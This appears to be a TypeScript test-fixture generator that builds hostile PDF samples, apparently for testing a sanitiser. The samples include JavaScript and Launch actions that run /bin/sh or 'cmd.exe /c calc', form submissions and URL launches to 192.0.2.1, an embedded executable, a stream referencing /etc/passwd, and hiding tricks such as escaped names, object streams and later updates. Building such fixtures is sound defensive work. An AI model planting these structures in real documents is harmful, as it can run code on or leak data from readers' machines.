import type { HostileFile } from './hostile-file.ts'
import { flateStream, joined, latin, pdfOf, pdfParts, pdfSample } from './paper-samples.ts'

const actions: Readonly<Record<string, string>> = {
  JavaScript: '/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://192.0.2.1"\\))',
  'escaped JavaScript': '/S/Java#53cript/J#53(app.launchURL\\("http://192.0.2.1"\\))',
  Launch: '/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>',
  URI: '/S/URI/URI(http://192.0.2.1/masuk)',
  SubmitForm: '/S/SubmitForm/F(http://192.0.2.1)',
  ImportData: '/S/ImportData/F(data.fdf)',
  GoToR: '/S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\a.pdf)/D[0/Fit]',
  GoToE: '/S/GoToE/T<</R/C/N(a)>>',
  Rendition: '/S/Rendition/OP 0',
  Movie: '/S/Movie/Operation/Play',
  Sound: '/S/Sound',
  Hide: '/S/Hide/T(a)',
}
const annotations = ['RichMedia', 'Screen', 'Movie', 'Sound', '3D', 'FileAttachment']

/** PDFs that would do something, carry something, or be something else for who has the key. */
export function* activePdfs(): Generator<HostileFile> {
  for (const [name, action] of Object.entries(actions)) {
    const dict = `<</Type/Action${action}>>`
    yield { name: `pdf: ${name} when opened`, bytes: pdfSample({ catalogue: `/OpenAction ${dict}` }) }
    yield { name: `pdf: ${name} on a link`, bytes: pdfSample({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A ${dict}>>]` }) }
    yield { name: `pdf: ${name} on a page`, bytes: pdfSample({ page: `/AA<</O ${dict}>>` }) }
    yield { name: `pdf: ${name} by reference`, bytes: pdfOf([...pdfParts({ catalogue: '/OpenAction 5 0 R' }), { text: dict }]) }
    yield { name: `pdf: ${name} after another`, bytes: pdfSample({ catalogue: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[${dict}]>>` }) }
    const front = '9 0 '
    yield {
      name: `pdf: ${name} packed`,
      bytes: pdfOf([...pdfParts(), flateStream(latin(front + dict), `/Type/ObjStm/N 1/First ${front.length}`)]),
    }
    yield {
      name: `pdf: ${name} in the outline`,
      bytes: pdfOf([...pdfParts({ catalogue: '/Outlines 5 0 R' }), { text: '<</First 6 0 R>>' }, { text: `<</Title(a)/A ${dict}>>` }]),
    }
  }
  for (const kind of annotations)
    yield { name: `pdf: ${kind}`, bytes: pdfSample({ page: `/Annots[<</Type/Annot/Subtype/${kind}/Rect[0 0 9 9]>>]` }) }
  yield { name: 'pdf: scripts by name', bytes: pdfSample({ catalogue: '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>' }) }
  yield { name: 'pdf: a form program', bytes: pdfSample({ catalogue: '/AcroForm<</Fields[]/XFA[(a)(b)]>>' }) }
  yield {
    name: 'pdf: a file inside',
    bytes: pdfOf([
      ...pdfParts({ catalogue: '/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>' }),
      { text: '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>' },
      { text: '<</Type/EmbeddedFile/Length 2>>', data: latin('MZ') },
    ]),
  }
  yield {
    name: 'pdf: a stream elsewhere',
    bytes: pdfOf([...pdfParts().slice(0, 3), { text: '<</Length 0/F(/etc/passwd)>>', data: new Uint8Array(0) }]),
  }
  for (const version of [1, 2, 4, 5]) {
    const lock = `<</Filter/Standard/V ${version}/R ${version}/Length 128/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>/P -4>>`
    yield {
      name: `pdf: locked, version ${version}`,
      bytes: pdfOf([...pdfParts(), { text: lock }], { trailer: '/Encrypt 5 0 R/ID[<00><00>]' }),
    }
  }
  for (const filter of ['JBIG2Decode', 'JPXDecode', 'Crypt', 'Unknown']) {
    const image = { text: `<</Type/XObject/Subtype/Image/Width 9/Height 9/Filter/${filter}/Length 30>>`, data: new Uint8Array(30) }
    const parts = pdfParts()
    yield {
      name: `pdf: a picture in ${filter}`,
      bytes: pdfOf([
        parts[0],
        parts[1],
        { text: parts[2].text.replace('/Resources<<>>', '/Resources<</XObject<</I 5 0 R>>>>') },
        parts[3],
        image,
      ]),
    }
  }
  const later = (page: string): Uint8Array => {
    const before = pdfSample()
    const start = /startxref\n(\d+)/.exec(Buffer.from(before).toString('latin1'))?.[1] ?? ''
    const object = `3 0 obj\n${page}\nendobj\n`
    const table = `xref\n3 1\n${String(before.length).padStart(10, '0')} 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev ${start}>>\nstartxref\n${before.length + object.length}\n%%EOF\n`
    return joined(before, latin(object + table))
  }
  yield {
    name: 'pdf: an action in a later change',
    bytes: later(`<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<<${actions.Launch}>>>>>>`),
  }
}
